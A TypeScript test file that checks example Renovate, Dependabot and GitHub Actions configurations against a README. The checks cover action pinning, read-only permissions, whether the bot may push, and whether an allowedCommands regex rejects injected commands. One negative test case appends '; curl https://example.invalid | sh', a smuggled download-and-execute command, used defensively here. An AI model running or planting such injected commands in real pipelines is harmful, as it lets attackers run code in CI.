// The bot configurations and workflows in examples/bots are the ones README.md shows, and they
// hold to what the README says of them: Renovate's file patterns take the .in files and not the
// lock, the allowedCommands pattern in the README allows the post-upgrade command and nothing
// appended to it, the workflows paste no expression into a script and pin the actions they use,
// the re-lock job alone may push and only for the bots' pull requests. (YAML is read with PyYAML
// where python3 has it; those checks skip otherwise.)
import { describe, test, type TestContext } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { projectRoot } from '../../helpers/paths.js';
import { python3 } from '../../helpers/python.js';

const examples = join(projectRoot, 'examples', 'bots');
const readme = readFileSync(join(projectRoot, 'README.md'), 'utf8');
const read = (name: string): string => readFileSync(join(examples, name), 'utf8');

/** The file as PyYAML reads it (JSON), or undefined when python3 has no yaml module. */
function yaml(t: TestContext, name: string): Record<string, unknown> | undefined {
  const probe = spawnSync(python3, ['-c', 'import json, sys, yaml; print(json.dumps(yaml.safe_load(sys.stdin)))'], { input: read(name), encoding: 'utf8' });
  if (probe.status !== 0) {
    t.skip(`python3 has no yaml module (${probe.stderr.trim().split('\n').pop() ?? ''})`);
    return undefined;
  }
  return JSON.parse(probe.stdout) as Record<string, unknown>;
}

interface Step {
  uses?: string;
  run?: string;
  with?: Record<string, string>;
}
interface Job {
  if?: string;
  permissions?: Record<string, string>;
  steps: Step[];
}

describe('examples/bots', () => {
  for (const name of ['renovate.json', 'dependabot.yml', 'relock.yml']) {
    test(`README.md shows ${name} as it is`, () => {
      assert.ok(readme.includes('\n' + read(name).trimEnd() + '\n```'), `README.md's copy of examples/bots/${name} differs`);
    });
  }

  test("renovate.json: the .in files for pip_requirements, the lock ignored and the post-upgrade task's only file", () => {
    const config = JSON.parse(read('renovate.json')) as {
      pip_requirements: { managerFilePatterns: string[] };
      ignorePaths: string[];
      postUpgradeTasks: { commands: string[]; fileFilters: string[]; executionMode: string };
    };
    const patterns = config.pip_requirements.managerFilePatterns.map((p) => {
      assert.match(p, /^\/.*\/$/, `${p}: a regex is written between slashes`);
      return new RegExp(p.slice(1, -1));
    });
    const takes = (path: string): boolean => patterns.some((p) => p.test(path));
    for (const path of ['requirements.in', 'app/requirements-dev.in', 'requirements.dev.in']) assert.ok(takes(path), path);
    for (const path of ['requirements.txt', 'requirements.in.bak', 'docs/requirements.md']) assert.ok(!takes(path), path);
    assert.ok(config.ignorePaths.includes('**/requirements.txt'));
    assert.deepEqual(config.postUpgradeTasks.fileFilters, ['requirements.txt']);
    assert.equal(config.postUpgradeTasks.executionMode, 'branch');
  });

  test("the README's allowedCommands pattern allows the command, and nothing appended to it or another package", () => {
    const source = /allowedCommands: \['(.*)'\]/.exec(readme)?.[1];
    assert.ok(source, 'README.md shows allowedCommands');
    // The JavaScript string literal's own escapes first (\\ is one backslash).
    const allowed = new RegExp(source.replace(/\\\\/g, '\\'));
    const config = JSON.parse(read('renovate.json')) as { postUpgradeTasks: { commands: string[] } };
    const command = config.postUpgradeTasks.commands[0]!.replace('COMMIT', 'a'.repeat(40));
    assert.match(command, allowed);
    for (const bad of [`${command}; curl https://example.invalid | sh`, `${command} && true`, command.replace('OWNER/pin-hashes', 'someone/else'), command.replace('a'.repeat(40), 'main')]) {
      assert.doesNotMatch(bad, allowed, bad);
    }
  });

  test('dependabot.yml: the pip updates leave the lock out', (t) => {
    const config = yaml(t, 'dependabot.yml') as { updates: { 'package-ecosystem': string; 'exclude-paths': string[] }[] } | undefined;
    if (!config) return;
    assert.equal(config.updates[0]!['package-ecosystem'], 'pip');
    assert.deepEqual(config.updates[0]!['exclude-paths'], ['requirements.txt']);
  });

  for (const name of ['relock.yml', 'check.yml']) {
    test(`${name}: no expression in a script, every action pinned, read-only unless a job says otherwise`, (t) => {
      const workflow = yaml(t, name) as { permissions: Record<string, string>; jobs: Record<string, Job> } & Record<string, unknown> | undefined;
      if (!workflow) return;
      // PyYAML reads the key `on` as the boolean true (YAML 1.1).
      const on = (workflow['on'] ?? workflow['true']) as Record<string, unknown>;
      assert.ok(!('pull_request_target' in on), 'never pull_request_target');
      assert.deepEqual(workflow.permissions, { contents: 'read' });
      for (const job of Object.values(workflow.jobs)) {
        for (const step of job.steps) {
          if (step.run !== undefined) assert.doesNotMatch(step.run, /\$\{\{/, step.run);
          if (step.uses !== undefined) assert.match(step.uses, /^([\w.-]+\/[\w.-]+@[0-9a-f]{40}|OWNER\/pin-hashes@COMMIT)$/, step.uses);
        }
      }
    });
  }

  test('relock.yml: only the bots pull requests, the one job that may push', (t) => {
    const workflow = yaml(t, 'relock.yml') as { jobs: Record<string, Job> } | undefined;
    if (!workflow) return;
    const jobs = Object.values(workflow.jobs);
    assert.equal(jobs.length, 1);
    const job = jobs[0]!;
    assert.deepEqual(job.permissions, { contents: 'write' });
    assert.equal(job.if, "github.event.pull_request.user.login == 'dependabot[bot]' || github.event.pull_request.user.login == 'renovate[bot]'");
    const relock = job.steps.find((s) => s.uses === 'OWNER/pin-hashes@COMMIT');
    assert.equal(relock?.with?.['mode'], 'lock');
  });
});
